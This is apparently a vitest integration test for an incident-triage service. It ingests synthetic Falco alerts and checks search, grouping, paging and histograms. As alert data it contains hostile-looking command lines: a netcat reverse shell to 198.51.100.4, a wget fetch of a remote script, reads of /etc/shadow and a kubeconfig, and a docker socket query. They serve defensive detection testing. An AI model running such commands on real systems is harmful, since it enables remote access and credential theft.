// Alerts at volume on a real PostgreSQL, from real-format Falco events: the queue's search finds
// what is inside the alerts (a command line, a file), an incident's alerts come grouped and a page
// at a time with a cursor that walks all of them once, and the histograms count every alert.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as alertsRoute from "../app/api/v1/alerts/[source]/route";
import * as queueHistogram from "../app/api/v1/alerts/histogram/route";
import * as alertsOf from "../app/api/v1/incidents/[id]/alerts/route";
import * as histogramOf from "../app/api/v1/incidents/[id]/histogram/route";
import * as merge from "../app/api/v1/incidents/[id]/merge/route";
import * as list from "../app/api/v1/incidents/route";
import { apiRequest, makeToken, noParams, params } from "./fixtures";
import { uploadShopCluster } from "./cluster-fixture";
import { db } from "../lib/db/client";
import { falcoRule, makeFalcoEvent } from "../lib/demo/synthetic-falco";
import { drainIncidentTerms } from "../lib/db/incident-terms";

const CLUSTER = `vol-${Date.now().toString(36)}`;
// an hour-aligned start two days back, so bucket arithmetic in the tests is exact
const T0 = Math.floor((Date.now() - 2 * 86_400_000) / 3_600_000) * 3_600_000 + 5 * 60_000;
let admin: string;
let analyst: string;
let developer: string;
let outsider: string;
let incidentId: string;

const shell = (i: number, cmdline = "bash -i") =>
  makeFalcoEvent(falcoRule("Terminal shell in container"), {
    time: new Date(T0 + i * 60_000),
    hostname: `${CLUSTER}-node`,
    namespace: "shop",
    pod: "api-7d9f-x1",
    container: "api",
    image: "shop/api:1",
    fields: { "proc.name": "bash", "proc.cmdline": cmdline, "proc.pname": "runc", "user.name": "root" },
  });
const read = (i: number, file: string) =>
  makeFalcoEvent(falcoRule("Read sensitive file untrusted"), {
    time: new Date(T0 + i * 60_000 + 30_000),
    hostname: `${CLUSTER}-node`,
    namespace: "shop",
    pod: "api-7d9f-x1",
    container: "api",
    image: "shop/api:1",
    fields: { "proc.name": "cat", "proc.cmdline": `cat ${file}`, "fd.name": file, "user.name": "root" },
  });

async function post(events: unknown[], drain = true) {
  const res = await alertsRoute.POST(
    apiRequest(`/api/v1/alerts/falco?cluster=${CLUSTER}`, { method: "POST", token: admin, rawBody: events.map((e) => JSON.stringify(e)).join("\n"), headers: { "content-type": "application/x-ndjson" } }),
    params({ source: "falco" }),
  );
  expect(res.status).toBe(202);
  const body = await res.json();
  // what the server's 2-second timer does: the alerts' values into the search index
  if (drain) await drainIncidentTerms();
  return body;
}
const get = async (route: { GET: typeof alertsOf.GET }, url: string, p: Record<string, string>, token = analyst) => {
  const res = await route.GET(apiRequest(url, { token }), params(p));
  return { status: res.status, body: await res.json() };
};
const queue = async (q: string, token = analyst) => (await (await list.GET(apiRequest(`/api/v1/incidents?cluster=${CLUSTER}&${q}`, { token }), noParams)).json()).items;

beforeAll(async () => {
  admin = (await makeToken("admin")).secret;
  analyst = (await makeToken("analyst")).secret;
  ({ developer, outsider } = await uploadShopCluster(CLUSTER, admin));
  // 120 identical shells a minute apart, three reads of two files, one docker socket call: one incident
  const events = [
    ...Array.from({ length: 120 }, (_, i) => shell(i)),
    read(10, "/etc/shadow"),
    read(70, "/etc/shadow"),
    read(71, "/root/.kube/config"),
    shell(119, "curl --unix-socket /var/run/docker.sock http://localhost/containers/json"),
  ];
  expect((await post(events)).accepted).toBe(124);
  const cluster = await db().cluster.findUniqueOrThrow({ where: { name: CLUSTER } });
  const incidents = await db().incident.findMany({ where: { clusterId: cluster.id } });
  expect(incidents.map((i) => i.alertCount)).toEqual([124]);
  incidentId = incidents[0].id;
});

afterAll(async () => {});

describe("search inside the alerts", () => {
  it("finds an incident by its alerts' command line, file and process, says where it matched, and ignores case", async () => {
    const sock = await queue("q=docker.sock");
    expect(sock.map((i: { id: string }) => i.id)).toEqual([incidentId]);
    expect(sock[0].matchedTerm).toEqual({ field: "cmdline", value: "curl --unix-socket /var/run/docker.sock http://localhost/containers/json" });
    expect((await queue("q=DOCKER.SOCK")).map((i: { id: string }) => i.id)).toEqual([incidentId]);
    const kube = await queue("q=.kube/config");
    expect(kube[0].matchedTerm.value).toMatch(/\.kube\/config/);
    expect((await queue("q=nothing-like-this-anywhere")).length).toBe(0);
    // % and _ are literal, not wildcards
    expect((await queue("q=docker%25sock")).length).toBe(0);
    // a match on the title says nothing of alert fields
    expect((await queue("q=Read sensitive"))[0].matchedTerm).toBeUndefined();
  });

  it("a word in hundreds of incidents pages through them all in queue order (the other search plan)", async () => {
    const cluster = await db().cluster.findUniqueOrThrow({ where: { name: CLUSTER } });
    const now = Date.now();
    await db().incident.createMany({
      data: Array.from({ length: 230 }, (_, i) => ({
        clusterId: cluster.id, workloadKey: `Deployment/bulk/w${i}`, workloadKind: "Deployment", namespace: "bulk", workloadName: `w${i}`,
        title: "Bulk noise rule", severity: "notice", severityRank: 2, score: i, firstSeen: new Date(now - 3_600_000), lastSeen: new Date(now - 3_600_000),
      })),
    });
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const res = await list.GET(apiRequest(`/api/v1/incidents?cluster=${CLUSTER}&q=bulk noise&limit=100${cursor ? `&cursor=${cursor}` : ""}`, { token: analyst }), noParams);
      const body: { items: { title: string; score: number }[]; nextCursor: string | null } = await res.json();
      expect(body.items.every((i) => i.title === "Bulk noise rule")).toBe(true);
      seen.push(...body.items.map((i) => String(i.score)));
      cursor = body.nextCursor;
    } while (cursor);
    expect(seen.length).toBe(230);
    expect(seen.map(Number)).toEqual([...seen.map(Number)].sort((a, b) => b - a));
  });

  it("a developer of another team does not find it by what is in its alerts", async () => {
    expect((await queue("q=docker.sock", outsider)).length).toBe(0);
    expect((await queue("q=docker.sock", developer)).length).toBe(1);
  });

  it("after a merge the survivor is found by what only the merged incident's alerts held", async () => {
    // alerts two hours after the last: past the correlation window, so a second incident opens
    const later = shell(240, "wget -qO- http://203.0.113.9/x.sh");
    expect((await post([later])).accepted).toBe(1);
    const second = await queue("q=203.0.113.9");
    expect(second.length).toBe(1);
    expect(second[0].id).not.toBe(incidentId);
    const res = await merge.POST(apiRequest(`/api/v1/incidents/${incidentId}/merge`, { method: "POST", token: analyst, body: { incidentId: second[0].id } }), params({ id: incidentId }));
    expect(res.status).toBe(200);
    expect((await queue("q=203.0.113.9")).map((i: { id: string }) => i.id)).toEqual([incidentId]);
  });
});

describe("an incident's alerts, grouped and paged", () => {
  const url = (q: string) => `/api/v1/incidents/${incidentId}/alerts?${q}`;

  it("groups identical alerts with their count and first/last seen, most recently active first", async () => {
    const { status, body } = await get(alertsOf, url("group=true"), { id: incidentId });
    expect(status).toBe(200);
    expect(body.total).toBe(125);
    const groups = body.items as { key: string; rule: string; cmdline: string; file: string | null; count: number; firstSeen: string; lastSeen: string; latest: { id: string; time: string } }[];
    expect(body.groups).toBe(groups.length);
    expect(groups.reduce((s, g) => s + g.count, 0)).toBe(125);
    const bash = groups.find((g) => g.cmdline === "bash -i")!;
    expect(bash.count).toBe(120);
    expect(bash.firstSeen).toBe(new Date(T0).toISOString());
    expect(bash.lastSeen).toBe(new Date(T0 + 119 * 60_000).toISOString());
    expect(bash.latest.time).toBe(bash.lastSeen);
    const shadow = groups.find((g) => g.cmdline === "cat /etc/shadow")!;
    expect(shadow.count).toBe(2);
    expect(shadow.rule).toBe("Read sensitive file untrusted");
    const last = groups.map((g) => Date.parse(g.lastSeen));
    expect(last).toEqual([...last].sort((a, b) => b - a));
    expect(groups[0].cmdline).toBe("wget -qO- http://203.0.113.9/x.sh");
  });

  it("pages through every group and every alert exactly once with the cursor", async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const { body }: { body: { items: { key: string }[]; nextCursor: string | null } } = await get(alertsOf, url(`group=true&limit=2${cursor ? `&cursor=${cursor}` : ""}`), { id: incidentId });
      seen.push(...body.items.map((g) => g.key));
      cursor = body.nextCursor;
    } while (cursor);
    expect(seen.length).toBe(new Set(seen).size);
    expect(seen.length).toBe((await get(alertsOf, url("group=true"), { id: incidentId })).body.groups);

    const ids: string[] = [];
    const times: number[] = [];
    cursor = null;
    let pages = 0;
    do {
      const { body }: { body: { items: { id: string; time: string }[]; nextCursor: string | null } } = await get(alertsOf, url(`limit=50${cursor ? `&cursor=${cursor}` : ""}`), { id: incidentId });
      ids.push(...body.items.map((a) => a.id));
      times.push(...body.items.map((a) => Date.parse(a.time)));
      cursor = body.nextCursor;
      pages++;
    } while (cursor);
    expect(pages).toBe(3);
    expect(ids.length).toBe(125);
    expect(new Set(ids).size).toBe(125);
    expect(times).toEqual([...times].sort((a, b) => b - a));
  });

  it("lists one group's alerts by its key", async () => {
    const groups = (await get(alertsOf, url("group=true"), { id: incidentId })).body.items as { key: string; count: number; cmdline: string | null }[];
    const shadow = groups.find((g) => g.cmdline === "cat /etc/shadow")!;
    const { body } = await get(alertsOf, url(`groupKey=${shadow.key}`), { id: incidentId });
    expect(body.items.map((a: { file: string }) => a.file)).toEqual(["/etc/shadow", "/etc/shadow"]);
  });

  it("refuses a cursor it did not make, naming it, and hides the incident from another team", async () => {
    const bad = await get(alertsOf, url("cursor=not-a-cursor"), { id: incidentId });
    expect(bad.status).toBe(400);
    expect(bad.body.error.message).toMatch(/cursor/);
    const groupCursor = (await get(alertsOf, url("group=true&limit=1"), { id: incidentId })).body.nextCursor;
    const mixed = await get(alertsOf, url(`cursor=${groupCursor}`), { id: incidentId });
    expect(mixed.status).toBe(400);
    expect((await get(alertsOf, url("group=true"), { id: incidentId }, outsider)).status).toBe(404);
    expect((await get(histogramOf, `/api/v1/incidents/${incidentId}/histogram`, { id: incidentId }, outsider)).status).toBe(404);
  });
});

describe("histograms", () => {
  it("an incident's bars count every alert, per severity, empty buckets included", async () => {
    const { body } = await get(histogramOf, `/api/v1/incidents/${incidentId}/histogram?bucket=1h`, { id: incidentId });
    expect(body.bucket).toBe("1h");
    const bars = body.buckets as { t: string; total: number; counts: Record<string, number> }[];
    expect(bars.reduce((s, b) => s + b.total, 0)).toBe(125);
    // T0 is 5 minutes past an hour; the alerts run to minute 240: hours 0..4
    expect(bars.map((b) => b.total)).toEqual([56, 62, 6, 0, 1]);
    expect(bars[3].counts).toEqual({});
    const perSeverity = bars.flatMap((b) => Object.entries(b.counts));
    expect(new Set(perSeverity.map(([s]) => s))).toEqual(new Set(["notice", "warning"]));
    const auto = await get(histogramOf, `/api/v1/incidents/${incidentId}/histogram`, { id: incidentId });
    expect(auto.body.bucket).toBe("5m");
    expect(auto.body.buckets.reduce((s: number, b: { total: number }) => s + b.total, 0)).toBe(125);
    const tooMany = await get(histogramOf, `/api/v1/incidents/${incidentId}/histogram?bucket=1m`, { id: incidentId });
    expect(tooMany.status).toBe(200);
    expect(tooMany.body.buckets.length).toBe(241);
    expect((await get(histogramOf, `/api/v1/incidents/${incidentId}/histogram?bucket=2h`, { id: incidentId })).status).toBe(400);
  });

  it("the queue's histogram counts the alerts per rule in the caller's scope", async () => {
    const call = async (q: string, token = analyst) => {
      const res = await queueHistogram.GET(apiRequest(`/api/v1/alerts/histogram?cluster=${CLUSTER}&${q}`, { token }), noParams);
      return res.json();
    };
    const byRule = await call("hours=72&by=rule");
    expect(byRule.series).toEqual([
      { name: "Terminal shell in container", total: 122 },
      { name: "Read sensitive file untrusted", total: 3 },
    ]);
    expect(byRule.buckets.reduce((s: number, b: { total: number }) => s + b.total, 0)).toBe(125);
    const bySeverity = await call("hours=72&by=severity");
    expect(bySeverity.series.map((s: { name: string }) => s.name)).toEqual(["warning", "notice"]);
    expect((await call("hours=72", developer)).series.reduce((s: number, x: { total: number }) => s + x.total, 0)).toBe(125);
    expect((await call("hours=72", outsider)).series).toEqual([]);
    // a day ago and later: nothing of these two-day-old alerts
    expect((await call("hours=24")).series).toEqual([]);
  });
});

describe("the search index timer", () => {
  it("a value is searchable once the index timer has run, and a merge before that still lands it on the survivor", async () => {
    expect((await post([shell(400, "nc -e /bin/sh 198.51.100.4 9001")], false)).accepted).toBe(1);
    expect((await queue("q=198.51.100.4")).length).toBe(0);
    const cluster = await db().cluster.findUniqueOrThrow({ where: { name: CLUSTER } });
    const fresh = await db().incident.findFirstOrThrow({ where: { clusterId: cluster.id, firstSeen: new Date(T0 + 400 * 60_000) } });
    const res = await merge.POST(apiRequest(`/api/v1/incidents/${incidentId}/merge`, { method: "POST", token: analyst, body: { incidentId: fresh.id } }), params({ id: incidentId }));
    expect(res.status).toBe(200);
    await drainIncidentTerms();
    expect((await queue("q=198.51.100.4")).map((i: { id: string }) => i.id)).toEqual([incidentId]);
  });

  it("sends each distinct value of an incident to the index once, however many alerts and batches repeat it", async () => {
    const pending = async (value: string) =>
      Number((await db().$queryRawUnsafe<{ n: bigint }[]>(`SELECT count(*) AS n FROM incident_terms_pending WHERE value = $1`, value))[0].n);
    expect((await post([shell(600, "printf probe-once"), shell(601, "printf probe-once"), shell(602, "printf probe-twice")], false)).accepted).toBe(3);
    expect((await post([shell(603, "printf probe-once"), shell(604, "printf probe-twice")], false)).accepted).toBe(2);
    expect([await pending("printf probe-once"), await pending("printf probe-twice")]).toEqual([1, 1]);
    await drainIncidentTerms();
    expect((await queue("q=probe-twice")).length).toBe(1);
  });

  it("a budgeted tick indexes no more than its budget while the backlog is small, and everything once it is large", async () => {
    const values = Array.from({ length: 30 }, (_, i) => `budget-probe-${i}-x`);
    await db().$executeRawUnsafe(
      `INSERT INTO incident_terms_pending ("incidentId", field, value) SELECT $1, 'cmdline', v FROM unnest($2::text[]) v`,
      incidentId,
      values,
    );
    const pendingOfMine = async () => Number((await db().$queryRawUnsafe<{ n: bigint }[]>(`SELECT count(*) AS n FROM incident_terms_pending WHERE value LIKE 'budget-probe-%'`))[0].n);
    const moved = await drainIncidentTerms({ budget: 10, backlogLimit: 1_000_000 });
    expect(moved).toBeLessThanOrEqual(10);
    expect(await pendingOfMine()).toBeGreaterThanOrEqual(20);
    // a backlog over the limit: drained whole, whatever the budget
    await drainIncidentTerms({ budget: 10, backlogLimit: 0 });
    expect(await pendingOfMine()).toBe(0);
    expect((await queue("q=budget-probe-29")).map((i: { id: string }) => i.id)).toEqual([incidentId]);
  });
});
